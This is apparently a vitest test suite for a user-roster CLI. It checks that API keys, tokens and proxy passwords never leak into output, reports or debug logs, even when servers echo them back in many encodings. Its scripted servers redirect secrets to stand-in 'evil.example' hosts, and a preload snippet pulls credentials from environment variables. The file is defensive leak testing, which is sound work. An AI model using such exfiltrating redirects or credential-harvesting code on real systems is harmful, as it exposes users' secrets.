/**
 * No secret in anything that a run leaves behind: both streams, reports, saved plans, `.roster/`,
 * `--debug`, whatever goes wrong and whatever the server says.
 */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { preload, QUICK } from './quick-time.js';
import { emptyFolder, type Run, runRoster } from './run-roster.js';
import {
  answer,
  ONLY_BOSS,
  type Script,
  type ScriptedRequest,
  serveScript,
} from './scripted-server.js';

const ROSTER = `version: 1
users:
  - { email: boss@acme.io, account_type: ADMIN }
  - { email: new@acme.io, account_type: ANALYST }
`;

/** What a run must keep to itself, and how it is told. */
interface Kind {
  readonly name: string;
  readonly secrets: readonly string[];
  readonly variables: Readonly<Record<string, string>>;
}

/** With every sign that JSON, URLs, HTML or a shell would write in another way. */
const KEY = `kQ7"w\\Zp/3+x=<V9>&'mB2%f`;
const SECRET = `sX4{r}Tg/8+c=Ny"6\\d&<H5>'j1%`;
const WORKSPACE_TOKEN = 'prdm_wsp_b8Hn2Vq5Lx9Rt3Zk7Md4Wc6';
const COMPANY_TOKEN = 'prdm_cmp_e1Jf6Ys0Pu8Ga5Io3Bv9Ct2';

const KINDS: readonly Kind[] = [
  {
    name: 'key and secret',
    secrets: [KEY, SECRET],
    variables: { PARADIME_API_KEY: KEY, PARADIME_API_SECRET: SECRET },
  },
  {
    name: 'workspace token',
    secrets: [WORKSPACE_TOKEN.slice('prdm_wsp_'.length)],
    variables: { PARADIME_API_SECRET: WORKSPACE_TOKEN },
  },
  {
    name: 'company token',
    secrets: [COMPANY_TOKEN.slice('prdm_cmp_'.length)],
    variables: { PARADIME_API_SECRET: COMPANY_TOKEN, PARADIME_WORKSPACE_UID: 'ws_a' },
  },
];

/** All that the server was told, in the forms in which servers repeat things. */
function echo({ headers, body }: ScriptedRequest): string {
  const told = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
  return [
    ...told,
    ...told.map((line) => line.toUpperCase()),
    JSON.stringify(headers),
    JSON.stringify(JSON.stringify(headers)),
    ...Object.values(headers).flatMap((value) => [
      encodeURIComponent(String(value)),
      Buffer.from(String(value)).toString('base64'),
      escapeHtml(String(value)),
    ]),
    body,
  ].join(' ');
}

function escapeHtml(text: string): string {
  const entities: Readonly<Record<string, string>> = {
    '&': '&amp;',
    '<': '&lt;',
    '>': '&gt;',
    '"': '&quot;',
    "'": '&#39;',
  };
  return text.replace(/[&<>"']/g, (sign) => entities[sign] ?? sign);
}

/** Each secret alone as the server's whole word, since a long answer is cut before its end. */
function eachAlone(request: ScriptedRequest): string {
  const names = ['x-api-secret', 'x-api-key', 'authorization'] as const;
  const values = names.flatMap((name) => request.headers[name] ?? []);
  return String(values[request.index % values.length]);
}

type Answer = (request: ScriptedRequest, response: ServerResponse) => void;

/** Servers that make a run fail, each knowing the secret. */
const SERVERS: Readonly<Record<string, Answer>> = {
  'refuses the key': (request, response) =>
    answer(response, { errors: [{ message: `unknown: ${eachAlone(request)}` }] }, 401),
  'forbids, in plain text': (request, response) => response.writeHead(403).end(eachAlone(request)),
  'repeats the request in errors': (request, response) =>
    answer(response, { data: null, errors: [{ message: echo(request) }] }),
  'repeats a header in errors': (request, response) =>
    answer(response, { errors: [{ message: eachAlone(request), extensions: request.headers }] }),
  'repeats headers as JSON within JSON': (request, response) =>
    answer(response, { error: JSON.stringify({ s: eachAlone(request) }) }, 400),
  'repeats a header in base64': (request, response) =>
    response.writeHead(400).end(Buffer.from(eachAlone(request)).toString('base64')),
  'repeats a header for HTML': (request, response) =>
    response.writeHead(400).end(escapeHtml(eachAlone(request))),
  'repeats the request with 500': (request, response) => response.writeHead(500).end(echo(request)),
  'is overloaded': (request, response) =>
    response.writeHead(503, { 'retry-after': '999' }).end(eachAlone(request)),
  'redirects with the secret': (request, response) => {
    const query = encodeURIComponent(eachAlone(request));
    response.writeHead(307, { location: `https://evil.example/${query}?s=${query}` }).end();
  },
  'redirects to a host of that name': (request, response) => {
    // What a host name can't hold comes as its longest part that it can.
    const parts = eachAlone(request)
      .replace('Bearer ', '')
      .split(/[^a-z0-9_]/i);
    const host = parts.reduce((longest, part) => (part.length > longest.length ? part : longest));
    response.writeHead(307, { location: `https://${host}.evil.example/` }).end();
  },
  'is a web page': (request, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<html>${echo(request)}</html>`),
  'is a broken web page': (request, response) =>
    response.writeHead(502, { 'content-type': 'text/html' }).end(`<p>${echo(request)}</p>`),
  'is no JSON': (request, response) => response.writeHead(200).end(`{"data": ${echo(request)}`),
  'sends half': (request, response) => {
    const half = `{"data": "${echo(request)}`;
    response.writeHead(200, { 'content-length': '99999' }).write(half, () => response.destroy());
  },
  'hangs up': (_request, response) => response.destroy(),
  'never answers': () => undefined,
  'has a gap beside its data': (request, response) =>
    answer(response, { ...ONLY_BOSS, errors: [{ message: echo(request) }] }),
};

const REPORTS = ['json', 'markdown', 'github', 'text', 'html'].flatMap((format) => [
  '--report',
  `${format}=out/report.${format}`,
]);

const PLAN = ['plan', '--debug', '--timeout', '15', '--save', 'out/p.json', ...REPORTS];
const APPLY = ['apply', '--debug', '--timeout', '15', '--yes', '--format', 'json', ...REPORTS];

/** Everything that a run left: what it said and every file in its folder, which is its home too. */
function leftBehind(run: Run, folder: string): string {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== 'credentials')
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'));
  return [run.stdout, run.stderr, ...files].join('\n');
}

const WINDOW = 8;

/** Pieces of secrets in a text, in any case: a half of one is too much already. */
function findSecrets(text: string, secrets: readonly string[]): string[] {
  const lower = text.toLowerCase();
  return secrets.flatMap((secret) =>
    formsOf(secret)
      .flatMap((form) => windowsOf(form.toLowerCase()))
      .filter((piece) => lower.includes(piece)),
  );
}

/** As it is, and in base64 behind none, one or two other bytes. */
function formsOf(secret: string): string[] {
  const inBase64 = ['', '.', '..'].map((before) =>
    Buffer.from(`${before}${secret}`)
      .toString('base64')
      .replace(/=+$/, '')
      .slice(before.length * 2, -2),
  );
  return [secret, ...inBase64];
}

function windowsOf(text: string): string[] {
  const last = Math.max(0, text.length - WINDOW);
  return Array.from({ length: last + 1 }, (_, at) => text.slice(at, at + WINDOW));
}

function folderWithRoster(): string {
  const folder = emptyFolder();
  mkdirSync(join(folder, 'out'));
  writeFileSync(join(folder, 'roster.yaml'), ROSTER);
  return folder;
}

/** What a run was like, and what it left that it must not. */
interface Checked {
  readonly run: Run;
  readonly left: string;
  readonly found: readonly string[];
}

async function runChecked(
  args: readonly string[],
  secrets: readonly string[],
  variables: Readonly<Record<string, string>>,
): Promise<Checked> {
  const cwd = folderWithRoster();
  const run = await runRoster(args, { cwd, variables: { NODE_OPTIONS: QUICK, ...variables } });
  const left = leftBehind(run, cwd);
  return { run, left, found: findSecrets(left, secrets) };
}

async function serve(script: Script): Promise<{ endpoint: string; seen: () => string }> {
  const { variables, requests } = await serveScript(script);
  return {
    endpoint: variables['PARADIME_API_ENDPOINT'] ?? '',
    seen: () => requests.map(({ headers }) => Object.values(headers).join(' ')).join(' '),
  };
}

const AT_ONCE = 8;

/** All of them, a few at a time. */
async function pooled<T>(items: readonly T[], work: (item: T) => Promise<void>): Promise<void> {
  const left = [...items];
  const next = async (): Promise<void> => {
    for (let item = left.shift(); item !== undefined; item = left.shift()) await work(item);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, next));
}

/** An error where nobody expects one, with all that there is to give away. */
const BROKEN = preload(
  'broken',
  `const secrets = Object.entries(process.env).filter(([name]) => /^PARADIME_API_(KEY|SECRET)/.test(name));
   Date.prototype.toISOString = () => {
     const error = new Error('bad header ' + JSON.stringify(Object.fromEntries(secrets)) + secrets.join());
     throw Object.assign(error, { headers: secrets, cause: new Error(secrets.join()) });
   };`,
);

describe.each(KINDS)('a $name', ({ secrets, variables }) => {
  it('is nowhere, whatever a server answers', async () => {
    const problems: unknown[] = [];
    await pooled(Object.entries(SERVERS), async ([name, script]) => {
      const server = await serve(script);
      const all = { ...variables, PARADIME_API_ENDPOINT: server.endpoint };
      const { run, found } = await runChecked(PLAN, secrets, all);
      const failed = [1, 4, 5].includes(run.status ?? 0) && run.stderr + run.stdout !== '';
      // It must have got the secret, or finding nothing would mean nothing.
      const told = secrets.every((secret) => server.seen().includes(secret));
      if (!failed || !told || found.length > 0) problems.push({ name, run, found, told });
    });
    expect(problems).toEqual([]);
  }, 120_000);

  it('is nowhere, whatever a server answers to a change', async () => {
    const problems: unknown[] = [];
    await pooled(Object.entries(SERVERS), async ([name, script]) => {
      const server = await serve((request, response) => {
        if (request.kind === 'read') answer(response, ONLY_BOSS);
        else script(request, response);
      });
      const all = { ...variables, PARADIME_API_ENDPOINT: server.endpoint };
      const { run, left, found } = await runChecked(APPLY, secrets, all);
      const wrote = left.includes('new@acme.io') && run.status !== 0;
      if (!wrote || found.length > 0) problems.push({ name, run, found });
    });
    expect(problems).toEqual([]);
  }, 120_000);

  it('is nowhere when nothing listens, and nor is a proxy’s password', async () => {
    const password = 'pR0xyPassw0rdOfSomebody';
    const places: readonly Readonly<Record<string, string>>[] = [
      { PARADIME_API_ENDPOINT: 'http://127.0.0.1:1/graphql' },
      {
        PARADIME_API_ENDPOINT: 'https://api.nowhere.example/graphql',
        HTTPS_PROXY: `http://user:${password}@127.0.0.1:1`,
      },
      {
        PARADIME_API_ENDPOINT: 'https://api.nowhere.example/graphql',
        HTTPS_PROXY: `socks://user:${password}@127.0.0.1:1`,
      },
    ];
    for (const place of places) {
      for (const args of [PLAN, APPLY]) {
        const all = { ...variables, ...place };
        const { run, found } = await runChecked(args, [...secrets, password], all);
        expect({ status: run.status, found }, run.stderr).toEqual({ status: 1, found: [] });
      }
    }
  }, 60_000);

  it('is nowhere when everything works', async () => {
    let invited: readonly unknown[] = [];
    const server = await serve((request, response) => {
      if (request.kind === 'write') {
        invited = [{ email: 'new@acme.io', accountType: 'ANALYST', inviteStatus: 'SENT' }];
        return answer(response, { data: { inviteUser: { ok: true } } });
      }
      const { listUsers } = ONLY_BOSS.data;
      answer(response, { data: { listUsers: { ...listUsers, invitedUsers: invited } } });
    });
    for (const args of [PLAN, APPLY]) {
      const all = { ...variables, PARADIME_API_ENDPOINT: server.endpoint };
      const { run, found } = await runChecked(args, secrets, all);
      expect({ status: run.status, found }, run.stderr).toEqual({ status: 0, found: [] });
    }
  });

  it('is nowhere when roster itself fails', async () => {
    const server = await serve((_request, response) => answer(response, ONLY_BOSS));
    for (const args of [PLAN, APPLY]) {
      const { run, found } = await runChecked(args, secrets, {
        ...variables,
        PARADIME_API_ENDPOINT: server.endpoint,
        NODE_OPTIONS: BROKEN,
      });
      expect({ status: run.status, found }, run.stderr).toEqual({ status: 1, found: [] });
      expect(run.stderr).toContain('Something unexpected happened: bad header');
      expect(run.stderr).toMatch(/^\s+at .*chunks/m);
    }
  });

  it('is nowhere when it was put where it does not belong', async () => {
    const misplaced = variables['PARADIME_API_SECRET'] ?? '';
    const endpoint = 'https://api.nowhere.example/graphql';
    const somewhere = { PARADIME_API_ENDPOINT: endpoint };
    const commands: readonly (readonly [readonly string[], Readonly<Record<string, string>>])[] = [
      [['plan', '--endpoint', misplaced], {}],
      [['plan', '--endpoint', `${endpoint}?key=${encodeURIComponent(misplaced)}`], {}],
      [['plan', `--api-secret=${misplaced}`], {}],
      [['plan', '--timeout', misplaced], somewhere],
      [['plan', '--concurrency', misplaced], somewhere],
      [['plan'], { PARADIME_API_ENDPOINT: misplaced }],
      [['plan'], { ...somewhere, PARADIME_WORKSPACE_UID: `${misplaced} x` }],
      [['plan'], { ...somewhere, PARADIME_API_SECRET: `${misplaced}\n` }],
    ];
    for (const [args, more] of commands) {
      const { run, found } = await runChecked([...args, '--debug'], secrets, {
        ...variables,
        ...more,
      });
      expect({ status: run.status, found }, run.stderr).toEqual({ status: 3, found: [] });
    }
  });
});

it('a secret from the `paradime login` file is nowhere either', async () => {
  const server = await serve((request, response) =>
    SERVERS['refuses the key']?.(request, response),
  );
  const cwd = folderWithRoster();
  const secrets = ['fileKey8Vq2', 'fS9x"7Lk&3Wz'];
  const [key = '', secret = ''] = secrets;
  mkdirSync(join(cwd, '.paradime'));
  const lines = [`API_ENDPOINT=${server.endpoint}`, `API_KEY='${key}'`, `API_SECRET='${secret}'`];
  writeFileSync(join(cwd, '.paradime/credentials'), `${lines.join('\n')}\n`);
  const run = await runRoster(PLAN, { cwd });
  expect(run.status, run.stderr).toBe(4);
  expect(server.seen()).toContain(secret);
  expect(findSecrets(leftBehind(run, cwd), secrets)).toEqual([]);
});

it('the search finds a secret, a half of it, and one in base64', () => {
  const [secret = ''] = KINDS[1]?.secrets ?? [];
  expect(findSecrets(`x${secret}y`, [secret])).not.toEqual([]);
  expect(findSecrets(`x${secret.slice(3, 13).toUpperCase()}`, [secret])).not.toEqual([]);
  for (const before of ['', 'x', 'xx']) {
    const base64 = Buffer.from(`${before}${secret}`).toString('base64');
    expect(findSecrets(base64, [secret])).not.toEqual([]);
  }
  expect(findSecrets('nothing of it', [secret])).toEqual([]);
});
